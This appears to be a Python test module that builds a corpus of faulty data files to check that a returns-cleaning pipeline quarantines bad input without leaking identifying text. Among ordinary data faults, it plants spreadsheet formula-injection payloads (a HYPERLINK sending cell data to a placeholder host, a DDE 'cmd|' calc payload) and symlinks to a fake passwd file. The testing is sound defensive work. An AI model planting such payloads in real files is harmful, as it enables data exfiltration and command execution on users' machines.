"""The public fault corpus of issue 20: every fault an adversarial review found in real
returns, built at test time on a copy of ``tests/data/minimal``, with its expected verdict.

Each :class:`Fault` edits a copy of the minimal raw folder (``build(raw, scratch)``; the
scratch folder lies outside the raw folder, for files a link may point to) and says what
the cleaner must do: the quarantine lines it adds (``lines``: file, sheet, row, column,
reason), the files rejected whole, and any further check (``check``). Every fault plants
identifying text (``planted``): no output of the cleaner may contain it.

``test_faults.py`` runs the corpus. Run this module as a script to see, for whatever
version of ``analysis`` is importable, what happens to each fault (the "before" and "after"
columns of the issue's closing table)::

    PYTHONPATH=/path/to/other/checkout/src python tests/unit/clean/fault_corpus.py
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1] / "data"))
from make_clean_fixtures import (  # noqa: E402
    EXTRACT_HEADER,
    PLANTED,
    extract_row,
    return_sheets,
    workbook,
)

MINIMAL = HERE.parents[1] / "data" / "minimal"
NAME, POSTCODE, DOB, NOTE = (
    "Quillon Marchbanks",
    "ZZ99 7QJ",
    "29/02/2004",
    "Case note: seen at Larkspur Arcade",
)
SYSTEM_LINE = "root:x:0:0:Planted System Line:/root:/bin/bash"
S01_EXT = "extracts/S01/S01_2014-15_cases.csv"
S02_EXT = "extracts/S02/S02_2015-16Q2_cases.csv"
S02_RET = "returns/S02/S02_2015-16Q2_v1.xlsx"
Q2 = ("S02", "2015-16 Q2", "01/12/2015", "29/02/2016", "15/03/2016")


# ------------------------------------------------------------------ helpers
def _read_rows(path: Path) -> tuple[list[list[str]], str]:
    data = path.read_bytes()
    try:
        text, enc = data.decode("utf-8"), "utf-8"
    except UnicodeDecodeError:
        text, enc = data.decode("cp1252"), "cp1252"
    return list(csv.reader(io.StringIO(text, newline=""))), enc


def _write_rows(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> None:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buf.getvalue().encode(encoding))


def _edit(raw: Path, rel: str, edit: Callable[[list[list[str]]], list[list[str]]]) -> None:
    rows, enc = _read_rows(raw / rel)
    _write_rows(raw / rel, edit(rows), enc)


def _set(rows: list[list[str]], row: int, col: str, value: str) -> list[list[str]]:
    rows[row - 1][rows[0].index(col)] = value
    return rows


def _manifest(raw: Path, *entries: tuple[str, str, str, str, str, str]) -> None:
    with open(raw / "manifest.csv", "a", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(entries)


def _set_manifest(raw: Path, file: str, column: str, value: str) -> None:
    rows, _ = _read_rows(raw / "manifest.csv")
    for r in rows[1:]:
        if r[0] == file:
            r[rows[0].index(column)] = value
    _write_rows(raw / "manifest.csv", rows)


def _workbook(path: Path, sheets: dict[str, list[list]], hidden: dict | None = None):
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = workbook(sheets)
    for name, rows in (hidden or {}).items():
        ws = wb.create_sheet(name)
        ws.sheet_state = "hidden"
        for r in rows:
            ws.append(r)
    return wb


def _patch_part(path: Path, part: str, edit: Callable[[bytes], bytes]) -> None:
    """Rewrite one part of an ``.xlsx`` (zip) file."""
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            out.writestr(info, edit(data) if info.filename == part else data)
    path.write_bytes(buf.getvalue())


def _sheet_part(path: Path, sheet: str) -> str:
    wb = openpyxl.load_workbook(path, read_only=True)
    index = wb.sheetnames.index(sheet) + 1
    wb.close()
    return f"xl/worksheets/sheet{index}.xml"


FULL_REFERRALS = {
    "Children's social care": 0, "Police": 1, "Education": 0, "Health": 0,
    "Other voluntary / youth service": 0, "Self / family": 0, "Other": 0, "Total": 1,
}  # fmt: skip


# ------------------------------------------------------------------ the corpus
@dataclass(frozen=True)
class Fault:
    """One fault, how to build it and what the cleaner must do with it."""

    name: str
    what: str
    build: Callable[[Path, Path], None]
    lines: tuple[tuple[str, str, str, str, str], ...] = ()
    rejected: tuple[str, ...] = ()
    check: Callable[[Result], None] | None = None
    planted: tuple[str, ...] = ()
    group: str = ""


@dataclass
class Result:
    """What one run of the cleaner on a fault's folder produced."""

    raw: Path
    out: Path
    summary: str = ""
    error: str = ""
    added: set[tuple[str, ...]] = field(default_factory=set)
    rejected: dict[str, str] = field(default_factory=dict)
    ledger: dict = field(default_factory=dict)


def _headerless(raw: Path, scratch: Path) -> None:
    def edit(rows):
        rows = rows[1:]
        rows[0] = extract_row(
            "B-1", DOB, "10/12/2015", Name=NAME, Postcode=POSTCODE, Case_notes=NOTE
        )
        return rows

    _edit(raw, S02_EXT, edit)


def _unquoted_comma(raw: Path, scratch: Path) -> None:
    """This service's export puts the name just before the missing episodes; a name
    written "Surname, Forename" without quotes pushes the forename into going_missing."""
    order = [h for h in EXTRACT_HEADER if h != "Name"]
    order.insert(order.index("Missing episodes"), "Name")
    rows = [
        extract_row("B-1", "03/03/2001", "10/12/2015", **{"Referred by": "Police"}),
        extract_row("B-2", "04/04/2002", "10/10/2015", Sex="M", Postcode=POSTCODE, Case_notes=NOTE),
    ]
    rows[1][EXTRACT_HEADER.index("Name")] = "Marchbanks, Quillon"  # written without quotes
    lines = [",".join(order)] + [",".join(r[EXTRACT_HEADER.index(h)] for h in order) for r in rows]
    (raw / S02_EXT).write_text("\n".join(lines) + "\n", "utf-8")


def _coded_columns(raw: Path, scratch: Path) -> None:
    def edit(rows):
        rows = _set(rows, 6, "Sex", NAME)
        rows = _set(rows, 6, "Referred by", "Mrs J Okafor (aunt)")
        rows = _set(rows, 6, "Date closed", "30/06/2015")
        return _set(rows, 6, "Reason for closure", f"14 Harbour Lane {POSTCODE}")

    _edit(raw, S01_EXT, edit)


def _symlink(raw: Path, scratch: Path) -> None:
    target = scratch / "passwd"
    target.write_text(f"{SYSTEM_LINE}\ndaemon:x:1:1:daemon:/usr/sbin\n", "utf-8")
    (raw / S02_EXT).unlink()
    os.symlink(target, raw / S02_EXT)


def _symlinked_folder(raw: Path, scratch: Path) -> None:
    outside = scratch / "training-S02"
    shutil.move(str(raw / "training" / "S02"), outside)
    (outside / "S02_2015-16Q2_training.csv").write_text(f"{SYSTEM_LINE}\n", "utf-8")
    os.symlink(outside, raw / "training" / "S02")


def _formula_payloads(raw: Path, scratch: Path) -> None:
    def edit(rows):
        rows = _set(rows, 5, "Sex", '=HYPERLINK("http://zz.invalid/?q="&A5,"Click")')
        return _set(rows, 5, "Referred by", "@SUM(1+1)*cmd|' /C calc'!A0")

    _edit(raw, S01_EXT, edit)


def _hidden_sheet(raw: Path, scratch: Path) -> None:
    sheets = return_sheets(*Q2, yp=(1, 2, 0), referrals=FULL_REFERRALS)
    hidden = {"REFERRALS ": [["Referral source", "Referrals"], ["Police", 7], [NAME, 3]]}
    _workbook(raw / S02_RET, sheets, hidden).save(raw / S02_RET)


def _formula_no_value(raw: Path, scratch: Path) -> None:
    sheets = return_sheets(*Q2, yp=(1, "=B2+1", 0), referrals={"Police": 1})
    _workbook(raw / S02_RET, sheets).save(raw / S02_RET)


def _merged_cells(raw: Path, scratch: Path) -> None:
    sheets = return_sheets(*Q2, yp=(1, 2, 0), referrals={"Police": 1})
    wb = _workbook(raw / S02_RET, sheets)
    wb["Activities"].merge_cells("B2:B3")
    wb.save(raw / S02_RET)


def _case_id_case(raw: Path, scratch: Path) -> None:
    def edit(rows):
        for r in rows[1:]:
            r[0] = r[0].lower() if r[0] != "A-003" else " a-003 "
        return rows

    _edit(raw, "extracts/S01/S01_2015-16_cases.csv", edit)


def _v2_before_v1(raw: Path, scratch: Path) -> None:
    path = raw / "returns/S01/S01_2015-16_v2.xlsx"
    sheets = return_sheets(
        "S01", "2015-16", "01-Sep-2015", "31-Aug-2016", "20/09/2016", yp=(0, 3, 2),
        referrals={"Children's social care": 0},
    )  # fmt: skip
    _workbook(path, sheets).save(path)
    _set_manifest(raw, "returns/S01/S01_2015-16_v2.xlsx", "received_date", "2016-09-20")


def _resubmission_v01(raw: Path, scratch: Path) -> None:
    path = raw / "returns/S02/S02_2015-16Q2_v01.xlsx"
    sheets = return_sheets(*Q2[:4], "01/04/2016", yp=(1, 2, 1), referrals={"Police": 1})
    _workbook(path, sheets).save(path)
    _manifest(raw, (path.relative_to(raw).as_posix(), "return", "S02", "2015-16 Q2", "1",
                    "2016-04-01"))  # fmt: skip


def _duplicate_upper(raw: Path, scratch: Path) -> None:
    shutil.copy(raw / S02_RET, raw / "returns/S02/S02_2015-16Q2_v1.XLSX")
    _manifest(raw, ("returns/S02/S02_2015-16Q2_v1.XLSX", "return", "S02", "2015-16 Q2", "1",
                    "2016-03-15"))  # fmt: skip


def _duplicate_extract(raw: Path, scratch: Path) -> None:
    later = "extracts/S02/S02_2015-16Q2_Cases.csv"
    rows, _ = _read_rows(raw / S02_EXT)
    _write_rows(raw / later, _set(rows, 3, "Sex", "F"))
    _manifest(raw, (later, "extract", "S02", "2015-16 Q2", "", "2016-03-20"))


def _huge_dimension(raw: Path, scratch: Path) -> None:
    """The dimension A1:XFD1048576 and an empty last row: a few kilobytes on disk."""
    path = raw / S02_RET

    def edit(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
        return xml.replace(b"</sheetData>", b'<row r="1048576"/></sheetData>')

    _patch_part(path, _sheet_part(path, "Referrals"), edit)


def _big_csv(raw: Path, scratch: Path, megabytes: int = 21) -> None:
    rows, _ = _read_rows(raw / S02_EXT)
    line = (",".join(rows[2]) + "\n").encode("utf-8")
    with open(raw / S02_EXT, "wb") as fh:
        fh.write((",".join(rows[0]) + "\n").encode("utf-8"))
        block = line * (1024 * 1024 // len(line) + 1)
        written = 0
        while written < megabytes * 1024 * 1024:
            fh.write(block)
            written += len(block)


def _utf16(raw: Path, scratch: Path) -> None:
    text = (raw / S02_EXT).read_text("utf-8")
    (raw / S02_EXT).write_bytes(text.encode("utf-16"))


def _quoted_newlines(raw: Path, scratch: Path) -> None:
    def edit(rows):
        rows = _set(rows, 2, "Case notes", "Line one\nline two\nline three")
        rows = _set(rows, 3, "Case notes", "Seen twice\nsee file")
        return _set(rows, 5, "Sex", "Fmale")

    _edit(raw, S01_EXT, edit)


def _folder_named_like_file(raw: Path, scratch: Path) -> None:
    folder = raw / "extracts/S02/S02_2015-16Q3_cases.csv"
    folder.mkdir(parents=True)
    _manifest(raw, (folder.relative_to(raw).as_posix(), "extract", "S02", "2015-16 Q3", "",
                    "2016-06-15"))  # fmt: skip


def _rejected(file: str, reason: str) -> tuple[str, str, str, str, str]:
    """The quarantine line of a file rejected whole."""
    return (file, "", "", "", f"file rejected: {reason}")


S02_UNLINKED = tuple(
    ("assessments/S02/S02_2015-16Q2_assessments.csv", "", str(r), "case_id",
     "no young person with this case ID in S02's case extracts")
    for r in (2, 3, 4, 5)
)  # fmt: skip
"""What rejecting S02's only extract does to its assessments (they cannot be linked)."""


def _superseded_rows(
    file: str, reason: str, referral_rows: tuple[int, ...]
) -> tuple[tuple[str, str, str, str, str], ...]:
    """The superseded lines of every kept row of a minimal-fixture return workbook."""
    rows = {
        "Activities": (2, 3, 4),
        "Cover": tuple(range(2, 9)),
        "Outputs": (2, 3, 4, 5),
        "Referrals": referral_rows,
        "Young people": (2, 4, 5),
    }
    return tuple((file, sheet, str(r), "", reason) for sheet, rs in rows.items() for r in rs)


GENDER_ROW5 = (
    S01_EXT,
    "",
    "5",
    "gender",
    "gender: unknown category; expected one of: female, male, other",
)
"""An unknown gender label in row 5 of S01's 2014-15 extract."""

SUPERSEDED_V1 = (
    "superseded by resubmission returns/S01/S01_2015-16_v2.xlsx received 20/09/2016; kept "
    "with superseded=True for earlier report cut-offs"
)


def _returns_flags(res: Result) -> dict[str, bool]:
    import pandas as pd

    r = pd.read_parquet(res.out / "returns.parquet")
    return dict(zip(r["return_id"], r["superseded"].astype(bool), strict=True))


def _check_v2_before_v1(res: Result) -> None:
    from analysis.publish.quality import superseded_within

    flags = _returns_flags(res)
    assert flags["S01_2015-16_v2"] is False and flags["S01_2015-16_v1"] is True, flags
    files = {"returns/S01/S01_2015-16_v1.xlsx", "returns/S01/S01_2015-16_v2.xlsx"}
    assert superseded_within(res.out, files) == {"returns/S01/S01_2015-16_v1.xlsx"}


def _check_v01(res: Result) -> None:
    flags = _returns_flags(res)
    assert flags == {**flags, "S02_2015-16Q2_v1": True, "S02_2015-16Q2_v1-2": False}, flags


def _young_people(res: Result) -> int:
    import pandas as pd

    return len(pd.read_parquet(res.out / "young_people.parquet"))


def _check_case_ids(res: Result) -> None:
    assert _young_people(res) == 6  # as without the fault: no one added
    norm = res.ledger["case_ids_normalised"]
    assert norm["rows"] == 3 and norm["files"] == [
        {"file": "extracts/S01/S01_2015-16_cases.csv", "rows": 3}
    ], norm


def _check_hidden(res: Result) -> None:
    import pandas as pd

    ref = pd.read_parquet(res.out / "referrals.parquet")
    police = ref.loc[
        (ref["return_id"] == "S02_2015-16Q2_v1") & (ref["referral_source"] == "police"),
        "referrals",
    ]
    assert police.tolist() == [1]  # the visible sheet's value, not the hidden one's 7
    line = next(x for x in res.ledger["files"] if x["sheet"] == "Referrals" and "S02" in x["file"])
    assert line["read"] == 8 and line["kept"] == 8, line


def _check_duplicate_extract(res: Result) -> None:
    import pandas as pd

    cp = pd.read_parquet(res.out / "case_periods.parquet")
    q2 = cp.loc[cp["period"] == "2015-16 Q2"]
    assert len(q2) == 2 and sorted(q2["gender"].astype(str)) == ["female", "female"]
    line = next(x for x in res.ledger["files"] if x["file"] == S02_EXT)
    assert line["superseded"] == 2, line


def _check_folder(res: Result) -> None:
    assert (res.out / "case_periods.parquet").exists()


FAULTS: tuple[Fault, ...] = (
    Fault(
        "headerless_extract",
        "case extract exported without its header row",
        _headerless,
        rejected=(S02_EXT,),
        lines=S02_UNLINKED
        + (
            _rejected(
                S02_EXT,
                "no header row: row 1 names 0 of the 15 "
                "required columns, so it looks like data, not column names (was the file "
                "exported without its header row?); the required columns are: case_id, "
                "date_of_birth, gender, ethnicity, sexuality, disability, referral_date, "
                "referral_source, referral_reason, risk_at_referral, going_missing, "
                "looked_after, substance_misuse, closure_date, closure_reason",
            ),
        ),
        planted=(NAME, POSTCODE, DOB, NOTE),
        group="Identifiers in quarantine.csv and ledger.json",
    ),  # fmt: skip
    Fault(
        "unquoted_comma",
        "an unquoted comma shifts a row's cells (a name lands in a coded column)",
        _unquoted_comma,
        lines=(
            (
                S02_EXT,
                "",
                "3",
                "__extra__",
                "row has more cells than the header has columns "
                "(1 more): a comma inside an unquoted value may have shifted the cells after it",
            ),
            (
                S02_EXT,
                "",
                "3",
                "going_missing",
                "going_missing: unknown category; expected one of: no, yes",
            ),
        ),
        planted=(NAME, "Marchbanks", "Quillon", POSTCODE, NOTE),
        group="Identifiers in quarantine.csv and ledger.json",
    ),  # fmt: skip
    Fault(
        "identifying_text_in_coded_columns",
        "a name in gender, an address in closure_reason, 'Mrs J Okafor (aunt)' as a source",
        _coded_columns,
        lines=(
            (
                S01_EXT,
                "",
                "6",
                "closure_reason",
                "closure_reason: unknown category; expected "
                "one of: aged_out, disengaged, moved_away, other, planned_end, transferred",
            ),
            (
                S01_EXT,
                "",
                "6",
                "gender",
                "gender: unknown category; expected one of: female, male, other",
            ),
            (
                S01_EXT,
                "",
                "6",
                "referral_source",
                "referral_source: unknown category; expected "
                "one of: childrens_social_care, education, health, other, police, self_family, "
                "voluntary_youth",
            ),
        ),
        planted=(NAME, "Okafor", "Harbour Lane", POSTCODE),
        group="Identifiers in quarantine.csv and ledger.json",
    ),  # fmt: skip
    Fault(
        "symlink_to_system_file",
        "a symbolic link in place of an extract points outside the raw folder",
        _symlink,
        rejected=(S02_EXT,),
        lines=S02_UNLINKED
        + (
            _rejected(
                S02_EXT,
                "a symbolic link, not a "
                "file: the cleaner reads only files stored in the raw folder itself and never "
                "follows a link (copy the file in instead)",
            ),
        ),
        planted=(SYSTEM_LINE, "Planted System Line", "daemon"),
        group="Identifiers in quarantine.csv and ledger.json",
    ),  # fmt: skip
    Fault(
        "symlinked_service_folder",
        "a service's folder is a link to a folder outside the raw folder",
        _symlinked_folder,
        rejected=("training/S02",),
        lines=(
            _rejected(
                "training/S02",
                "a symbolic link, not a file: the "
                "cleaner reads only files stored in the raw folder itself and never follows a "
                "link (copy the file in instead)",
            ),
        ),
        planted=(SYSTEM_LINE, "Planted System Line"),
        group="Identifiers in quarantine.csv and ledger.json",
    ),  # fmt: skip
    Fault(
        "formula_payloads",
        "formula payloads (=HYPERLINK(...), @SUM...cmd|) in coded columns",
        _formula_payloads,
        lines=(
            GENDER_ROW5,
            (
                S01_EXT,
                "",
                "5",
                "referral_source",
                "referral_source: unknown category; expected "
                "one of: childrens_social_care, education, health, other, police, self_family, "
                "voluntary_youth",
            ),
        ),
        planted=("HYPERLINK", "cmd|", "zz.invalid"),
        group="Identifiers in quarantine.csv and ledger.json",
    ),  # fmt: skip
    Fault(
        "hidden_sheet_named_alike",
        "a hidden sheet 'REFERRALS ' beside the visible 'Referrals'",
        _hidden_sheet,
        lines=(
            (
                S02_RET,
                "Referrals (hidden)",
                "",
                "",
                "hidden sheet named like Referrals: not "
                "read, and never used in place of the visible sheet Referrals; if it holds the "
                "data, unhide it, delete the other and re-send",
            ),
        ),
        check=_check_hidden,
        planted=(NAME,),
        group="Silent loss",
    ),  # fmt: skip
    Fault(
        "formula_without_saved_value",
        "a count cell holds a formula Excel never calculated",
        _formula_no_value,
        lines=(
            (
                S02_RET,
                "Young people",
                "4",
                "young_people",
                "cell B4 holds a formula with no "
                "saved value (the workbook was saved without calculating it): open it in "
                "Excel, let it calculate, save it and re-send",
            ),
        ),
        group="Silent loss",
    ),  # fmt: skip
    Fault(
        "merged_value_cells",
        "two value cells merged (B2:B3 on Activities)",
        _merged_cells,
        lines=tuple(
            (
                S02_RET,
                "Activities",
                str(r),
                "sessions",
                "cells B2:B3 are merged, so the value "
                "of each row cannot be told: unmerge them, fill in every cell and re-send",
            )
            for r in (2, 3)
        ),
        group="Silent loss",
    ),  # fmt: skip
    Fault(
        "case_ids_in_another_letter_case",
        "one extract writes its case IDs in lower case (and with spaces)",
        _case_id_case,
        check=_check_case_ids,
        planted=(PLANTED["case_id"].lower(),),
        group="Silent loss",
    ),
    Fault(
        "second_version_dated_before_first",
        "v2 received before v1",
        _v2_before_v1,
        lines=_superseded_rows("returns/S01/S01_2015-16_v1.xlsx", SUPERSEDED_V1, (2,)),
        check=_check_v2_before_v1,
        group="Silent loss",
    ),  # fmt: skip
    Fault(
        "resubmission_named_v01",
        "a resubmission named _v01.xlsx (the same version number as _v1)",
        _resubmission_v01,
        lines=_superseded_rows(
            S02_RET,
            "superseded by resubmission returns/S02/S02_2015-16Q2_v01.xlsx received "
            "01/04/2016; kept with superseded=True for earlier report cut-offs",
            (2, 3),
        ),
        check=_check_v01,
        group="Crashes and half-written output",
    ),  # fmt: skip
    Fault(
        "duplicate_with_upper_case_extension",
        "the same workbook again as .XLSX, listed in the manifest",
        _duplicate_upper,
        rejected=("returns/S02/S02_2015-16Q2_v1.XLSX",),
        lines=(
            _rejected(
                "returns/S02/S02_2015-16Q2_v1.XLSX",
                "a copy of "
                f"{S02_RET} (the same bytes, version 1 of S02 2015-16 Q2 received 15/03/2016): "
                "read once, from that file",
            ),
        ),
        group="Crashes and half-written output",
    ),  # fmt: skip
    Fault(
        "duplicate_extract_for_a_period",
        "a second case extract for the same service and period",
        _duplicate_extract,
        lines=tuple(
            (
                S02_EXT,
                "",
                str(r),
                "",
                "superseded by extracts/S02/S02_2015-16Q2_Cases.csv "
                "received 20/03/2016: a later case extract for the same service and period "
                "replaces this one",
            )
            for r in (2, 3)
        ),
        check=_check_duplicate_extract,
        group="Crashes and half-written output",
    ),  # fmt: skip
    Fault(
        "declared_dimension_a1_xfd1048576",
        "a small workbook declaring the dimension A1:XFD1048576",
        _huge_dimension,
        rejected=(S02_RET,),
        lines=(
            _rejected(
                S02_RET,
                "sheet Referrals declares or holds "
                "1,048,576 rows × 16,384 columns, over the limit of 10,000 rows × 50 columns: "
                "delete the empty rows and columns below and to the right of the data and "
                "re-save it",
            ),
        ),
        group="Crashes and half-written output",
    ),  # fmt: skip
    Fault(
        "csv_over_the_size_limit",
        "a CSV extract over the size limit (21 MiB here; 200 MB in the review)",
        _big_csv,
        rejected=(S02_EXT,),
        lines=S02_UNLINKED
        + (
            _rejected(
                S02_EXT,
                "file is 21 MiB, over the limit of 20 MiB "
                "for a CSV file: split it by period or check that it is the file the contract "
                "describes",
            ),
        ),
        group="Crashes and half-written output",
    ),  # fmt: skip
    Fault(
        "utf16_csv",
        "a case extract saved as UTF-16 ('Unicode Text')",
        _utf16,
        rejected=(S02_EXT,),
        lines=S02_UNLINKED
        + (
            _rejected(
                S02_EXT,
                "text is UTF-16 (as Excel's 'Unicode Text' "
                "saves it), not UTF-8 or Windows-1252: save it as 'CSV UTF-8 (comma "
                "delimited)' and re-send",
            ),
        ),
        group="Unclear messages",
    ),  # fmt: skip
    Fault(
        "quoted_newlines",
        "case notes with line breaks before a bad row (the row a spreadsheet shows is 5)",
        _quoted_newlines,
        lines=(GENDER_ROW5,),
        planted=("line two", "see file"),
        group="Unclear messages",
    ),  # fmt: skip
    Fault(
        "folder_named_like_a_data_file",
        "a folder named S02_2015-16Q3_cases.csv, listed in the manifest",
        _folder_named_like_file,
        rejected=("extracts/S02/S02_2015-16Q3_cases.csv",),
        lines=(
            _rejected(
                "extracts/S02/S02_2015-16Q3_cases.csv",
                "a folder "
                "named like a data file: the contract expects a file here (move its contents "
                "out and remove the folder)",
            ),
        ),
        check=_check_folder,
        group="Unclear messages",
    ),  # fmt: skip
)
"""Every fault of issue 20 (disk full and interruption are tested in ``test_faults.py``)."""


# ------------------------------------------------------------------ running
def quarantine_lines(out: Path) -> set[tuple[str, ...]]:
    """The quarantine's lines as (file, sheet, row, column, reason)."""
    with open(out / "quarantine.csv", encoding="utf-8", newline="") as fh:
        return {
            (r["file"], r["sheet"], r["row"], r["column"], r["reason"]) for r in csv.DictReader(fh)
        }


def output_texts(out: Path) -> dict[str, str]:
    """Every file the cleaner wrote, as text (Parquet tables as every cell's text)."""
    import pandas as pd

    texts = {}
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        if path.suffix == ".parquet":
            frame = pd.read_parquet(path)
            texts[path.name] = frame.astype("str").to_csv() + " ".join(map(str, frame.columns))
        else:
            texts[path.name] = path.read_text("utf-8", errors="replace")
    return texts


def leaks(out: Path, planted: tuple[str, ...]) -> list[str]:
    """``file: text`` for each planted text found (case-insensitive) in an output."""
    found = []
    for name, text in output_texts(out).items():
        low = text.casefold()
        found += [f"{name}: {p}" for p in planted if p.casefold() in low]
    return found


def run(fault: Fault, work: Path, baseline: set[tuple[str, ...]] | None = None) -> Result:
    """Build ``fault`` in ``work`` and run the cleaner on it (errors caught and kept)."""
    import json

    from analysis.clean.pipeline import clean_returns

    raw, scratch, out = work / "raw", work / "scratch", work / "out"
    shutil.copytree(MINIMAL, raw)
    scratch.mkdir()
    fault.build(raw, scratch)
    res = Result(raw, out)
    try:
        res.summary = clean_returns(raw, out)
    except BaseException as exc:  # noqa: BLE001 - the corpus reports whatever happened
        res.error = f"{type(exc).__name__}: {str(exc)[:300]}"
        return res
    res.ledger = json.loads((out / "ledger.json").read_text("utf-8"))
    res.rejected = {r["file"]: r["reason"] for r in res.ledger["rejected"]}
    res.added = quarantine_lines(out) - (baseline or set())
    return res


def main() -> None:  # pragma: no cover - the "before"/"after" table for the closing note
    import tempfile

    tmp = Path(tempfile.mkdtemp(prefix="fault-corpus-"))
    base = run(Fault("none", "", lambda raw, scratch: None), tmp / "none")
    baseline = quarantine_lines(base.out) if not base.error else set()
    for fault in FAULTS:
        res = run(fault, tmp / fault.name, baseline)
        if res.error:
            outcome = res.error
        else:
            found = leaks(res.out, fault.planted + tuple(PLANTED.values()))
            outcome = (
                f"{len(res.added)} quarantine line(s), {len(res.rejected)} rejected; "
                f"young people {_young_people(res)}; leaks: {found or 'none'}"
            )
        print(f"{fault.name}\t{outcome}")


if __name__ == "__main__":  # pragma: no cover
    main()
